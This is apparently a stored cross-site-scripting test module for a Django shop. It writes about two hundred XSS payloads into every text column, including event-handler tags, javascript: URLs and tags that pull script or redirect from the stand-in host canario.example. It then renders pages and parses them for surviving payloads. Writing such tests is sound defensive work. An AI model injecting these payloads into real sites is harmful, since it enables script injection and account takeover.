"""Two hundred ways to write script where text is asked, and a shop that holds them in every column of text it has."""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import cycle, islice, product
from typing import Any

from django.db import models

CANARY = "canario.example"
CODE = "alert(`canario`)"
VECTORS = (
    "<script>{code}</script>", "<img src=x onerror={code}>", "<svg onload={code}>", "<body onload={code}>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>", "<details open ontoggle={code}>",
    "<video><source onerror={code}></video>", "<input autofocus onfocus={code}>", "<marquee onstart={code}>",
    "<math><mtext></mtext><img src=x onerror={code}></math>", "<object data='javascript:{code}'></object>",
    "<a href='javascript:{code}' autofocus onfocus={code} tabindex=1>x</a>", "<style onload={code}></style>",
    "<link rel=stylesheet href='//canario.example/x.css'>", "<img src='//canario.example/x.png'>",
    "<script src='//canario.example/x.js'></script>", "<base href='//canario.example/'>",
    "<meta http-equiv=refresh content='0;url=//canario.example/'>",
    "<form action='//canario.example/'><button>x</form>", "<svg><animate onbegin={code} attributeName=x dur=1s></svg>",
    "<audio src=x onerror={code}>",
    "<select autofocus onfocus={code}>", "<textarea autofocus onfocus={code}>", "<embed src='javascript:{code}'>",
    "<keygen autofocus onfocus={code}>",
)  # fmt: skip
BEFORE = ("", '">', "'>", "</script>", "</textarea>", "</title></style>", "-->", "{{{{7*7}}}}")  # what it breaks out of
ADDRESSES = ("javascript:{code}", "JaVaScRiPt:{code}", "\tjavascript:{code}", "data:text/html,<script>{code}</script>")
LEADING = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset")
TOO_SHORT = 20
RULED = {  # columns that are no text: keys, codes, places of files
    "password", "file", "path", "provider", "method", "freight_method", "source", "external_id", "session_key", "key",
    "token_hash", "txid", "task_path", "reference", "agent", "kind", "event_id", "slug", "url_key", "code", "number",
    "email", "postal_code", "state", "document", "phone", "hash", "fingerprint", "owner", "place", "icon", "swatch",
}  # fmt: skip


def payloads() -> list[str]:
    """Two hundred, every vector behind every beginning."""
    return [f"{before}{vector}".format(code=CODE) for vector, before in product(VECTORS, BEFORE)]


def columns() -> Iterator[tuple[type[models.Model], "models.Field[Any, Any]"]]:
    """Where somebody's words are kept, longest enough to hold any."""
    from tests.trust import canaries

    for model in canaries.tables():
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField) and not field.choices and not field.unique
            room = getattr(field, "max_length", None) or 1000
            if is_text and room >= TOO_SHORT and field.name not in RULED:
                yield model, field


def poison(*, turn: int) -> int:
    """Each such column of each row holds the next payload that fits it; how many values were written."""
    from django.utils import timezone

    from catalog import publication, taxonomy

    written = 0
    for place, (model, field) in enumerate(columns()):
        room = getattr(field, "max_length", None) or 1000
        is_address = isinstance(field, models.URLField) or "url" in field.name or "link" in field.name
        pool = [each.format(code=CODE) for each in ADDRESSES] if is_address else payloads()
        fits = [each for each in pool if len(each) <= room] or ["<b>canario</b>"]
        rows = list(model._default_manager.order_by("pk").values_list("pk", flat=True))
        words = islice(cycle(fits), (place * 7 + turn * 31) % len(fits), None)
        for pk, text in zip(rows, words, strict=False):
            written += models.QuerySet(model).filter(pk=pk).update(**{field.name: text})  # past every rule
    taxonomy.replant()
    publication.refresh_all(at=timezone.now())
    publication.touch()
    return written


def pages_of_a_world() -> dict[str, Any]:
    """A shop with one of everything; what can be opened in it, and the cookie of each kind of person."""
    from django.conf import settings

    from tests.trust import matrix

    world = matrix.build()
    found = []
    for route in matrix.routes():
        role = "staff with permission" if route.startswith(matrix.BACK_OFFICE) else "customer A"
        if not route.startswith("api/"):
            found.append([role, world.path(route, role)])
    name = settings.SESSION_COOKIE_NAME
    cookies = {role: client.cookies[name].value for role, client in world.clients.items() if name in client.cookies}
    return {"pages": found, "cookies": cookies, "cookie": name}


class Reader(HTMLParser):
    """Whatever of a page could run or load something of a payload."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            words = (value or "").strip().lower()
            leads = name in LEADING and words.startswith(("javascript:", "data:text/html", f"//{CANARY}"))
            if leads or name.startswith("on") or name == "srcdoc":
                self.found.append(f"<{tag} {name}={words[:80]}>")

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and self.cdata_elem == "script" and "canario" in data and "<" in data:
            self.found.append(f"<script>{data[:80]}")


def dangers(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    return reader.found
